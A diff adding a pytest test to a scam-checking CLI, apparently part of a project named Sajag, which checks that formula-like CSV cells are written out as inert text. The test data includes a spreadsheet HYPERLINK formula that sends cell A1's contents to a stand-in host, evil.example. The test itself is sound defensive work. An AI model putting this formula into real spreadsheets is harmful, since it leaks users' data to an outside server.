@@ -319,3 +319,21 @@ def test_the_cli_checks_a_message_and_a_csv(tmp_path):
         cwd=root,
     )
     assert bad.returncode == 2 and "no column 'message'" in bad.stderr
+
+
+def test_the_cli_csv_keeps_a_scammers_formula_as_text(tmp_path):
+    from sajag.core.cells import safe_text
+    from sajag.scamcheck.__main__ import _cell, main
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+    source = tmp_path / "in.csv"
+    with source.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([["id", "@sender", "text"], ["-5", "+919829012345", evil]])
+    assert main(["--csv", str(source), "--out", str(tmp_path / "out.csv")]) == 0
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0][:3] == ["id", "'@sender", "text"]
+    assert rows[1][:3] == ["-5", "+919829012345", "'" + evil] and rows[1][3] in LEVELS
+    # scamcheck imports nothing from the rest of Sajag, so it keeps its own copy of the rule.
+    for value in [evil, "+1+2", " @x", "\tx", "\rx", "-", "-5", "+91 98290", "Jaipur", "", 7, -3.5]:
+        assert _cell(value) == safe_text(value), value
